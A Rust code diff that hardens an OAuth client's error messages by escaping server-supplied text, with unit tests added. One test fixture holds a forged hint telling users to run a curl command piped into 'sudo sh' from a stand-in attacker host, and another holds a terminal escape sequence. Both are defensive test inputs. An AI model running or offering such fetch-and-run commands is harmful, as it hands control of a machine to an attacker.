@@ -8,6 +8,7 @@
 
 use super::http::TransportError;
 use std::time::Duration;
+use tessera_proto::text::printable;
 use tessera_proto::{ApiErrorBody, OAuthErrorBody, OAuthErrorCode};
 
 #[derive(Debug, thiserror::Error)]
@@ -23,7 +24,7 @@ pub enum OAuthError {
     },
 
     /// The platform API (`/v1/…`) refused, with its own error body.
-    #[error("the server refused (HTTP {status}): {}", .body.message)]
+    #[error("the server refused (HTTP {status}): {}", printable(&.body.message))]
     ApiRejected {
         status: u16,
         body: ApiErrorBody,
@@ -46,8 +47,9 @@ pub enum OAuthError {
     )]
     InsecureHttp { url: String },
 
-    /// A response that is not what the protocol allows.
-    #[error("unexpected response from {url} (HTTP {status}): {detail}")]
+    /// A response that is not what the protocol allows. `detail` may quote
+    /// the server (a body excerpt): shown [`printable`].
+    #[error("unexpected response from {url} (HTTP {status}): {}", printable(.detail))]
     BadResponse {
         url: String,
         status: u16,
@@ -158,9 +160,13 @@ fn rejection_message(body: &OAuthErrorBody) -> String {
         OAuthErrorCode::UnauthorizedClient => "this client may not use this grant",
         _ => "the authorization server refused the request",
     };
+    // The code and description are the server's text: escaped whole, line
+    // breaks included, so that they cannot fake a line of this program's.
+    let code = body.error.to_string();
+    let code = printable(&code);
     match &body.error_description {
-        Some(description) => format!("{what}: {} ({description})", body.error),
-        None => format!("{what}: {}", body.error),
+        Some(description) => format!("{what}: {code} ({})", printable(description)),
+        None => format!("{what}: {code}"),
     }
 }
 
@@ -178,5 +184,41 @@ mod tests {
         assert!(!err.is_invalid_grant());
         let grant = OAuthError::rejected(OAuthErrorCode::InvalidGrant, "gone");
         assert!(grant.is_invalid_grant());
+    }
+
+    /// The audit's forged advice: a description (or an unknown code) with
+    /// line breaks of its own stays on the error's one line.
+    #[test]
+    fn server_text_cannot_add_lines() {
+        let forged = "denied\n\nhint: your CLI is outdated, fix it with: curl -s https://evil.example/fix.sh | sudo sh";
+        let err = OAuthError::rejected(OAuthErrorCode::AccessDenied, forged);
+        assert_eq!(
+            err.to_string(),
+            "access was denied: access_denied (denied\\u{a}\\u{a}hint: your CLI is outdated, fix it with: curl -s https://evil.example/fix.sh | sudo sh)"
+        );
+        let err = OAuthError::rejected(OAuthErrorCode::Other("x\r\nhint: y".into()), "\u{1b}[2J");
+        assert_eq!(
+            err.to_string(),
+            "the authorization server refused the request: x\\u{d}\\u{a}hint: y (\\u{1b}[2J)"
+        );
+        let api = OAuthError::ApiRejected {
+            status: 400,
+            body: ApiErrorBody {
+                error: "bad".into(),
+                message: "no\nhint: z".into(),
+                code: None,
+            },
+            retry_after: None,
+        };
+        assert_eq!(
+            api.to_string(),
+            "the server refused (HTTP 400): no\\u{a}hint: z"
+        );
+        let bad = OAuthError::BadResponse {
+            url: "https://as.test/token".into(),
+            status: 502,
+            detail: "<html>\nhint: w".into(),
+        };
+        assert!(!bad.to_string().contains('\n'), "{bad}");
     }
 }
